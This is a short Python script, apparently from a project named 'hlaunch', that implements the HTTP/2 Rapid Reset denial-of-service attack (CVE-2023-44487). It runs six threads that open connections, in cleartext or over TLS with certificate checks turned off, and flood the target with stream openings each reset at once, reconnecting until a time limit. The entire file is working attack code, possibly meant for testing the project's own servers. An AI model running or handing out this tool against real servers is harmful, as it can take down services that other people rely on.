#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: The hlaunch authors
"""An attacker of HTTP/2 servers: opens and resets streams as fast as it can (CVE-2023-44487).

    rapid_reset.py HOST PORT SECONDS clear|NAME

In clear, or over TLS without a certificate, where NAME is what it asks for. Connects anew where it is
closed. Prints how many connections it made and how many streams it opened and reset.
"""

import socket
import ssl
import struct
import sys
import threading
import time

CONNECTIONS = 6
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method POST, :scheme http, :path and :authority as literals that are not indexed (RFC 7541).
REQUEST = b"\x83\x86\x04\x10/hlaunch.v1.Rend\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def streams(first, count):
    return b"".join(frame(1, 5, stream, REQUEST) + frame(3, 0, stream, struct.pack(">I", 8))
                    for stream in range(first, first + 2 * count, 2))


def connect(host, port, name):
    connection = socket.create_connection((host, port), timeout=5)
    if name == "clear":
        return connection
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection, server_hostname=name)


def attack(host, port, name, until, counts):
    while time.monotonic() < until:
        try:
            with connect(host, port, name) as connection:
                counts["connections"] += 1
                connection.sendall(PREFACE + frame(4, 0, 0))
                for first in range(1, 1 << 30, 200):
                    if time.monotonic() > until:
                        return
                    connection.sendall(streams(first, 100))
                    counts["streams"] += 100
        except OSError:
            counts["refused"] += 1


def main():
    host, port, seconds, name = sys.argv[1:]
    until = time.monotonic() + float(seconds)
    counts = {"connections": 0, "streams": 0, "refused": 0}
    threads = [threading.Thread(target=attack, args=(host, int(port), name, until, counts))
               for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(counts)


main()
